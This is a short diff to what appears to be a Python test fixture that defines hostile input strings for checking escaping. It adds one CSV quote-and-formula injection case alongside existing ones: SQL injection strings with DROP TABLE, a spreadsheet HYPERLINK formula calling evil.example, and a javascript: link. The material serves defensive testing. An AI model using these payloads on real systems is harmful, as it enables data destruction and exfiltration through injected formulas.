@@ -16,6 +16,7 @@ SIGNS = f":red[{MARK}] :material/{MARK}: **{MARK}** `{MARK}` ${MARK}^2$ # {MARK}
 SQL = f"{MARK}\"; DROP TABLE entries; -- ' OR 1=1"
 FORMULA = f'=HYPERLINK("http://evil.example/{MARK}";"x")'
 SPLIT = f"a;=1+1;{MARK}"
+QUOTED = f'a;"=1+1;{MARK}'  # once its quote is doubled, as a file writes it, an empty word and a formula
 NAMES = {"html": HTML, "link": LINK, "signs": SIGNS, "sql": SQL, "formula": FORMULA, "split": SPLIT}
 TABLE = f'{MARK}"; DROP TABLE tables;-- <b>{MARK}</b> [x](javascript:1)'
 
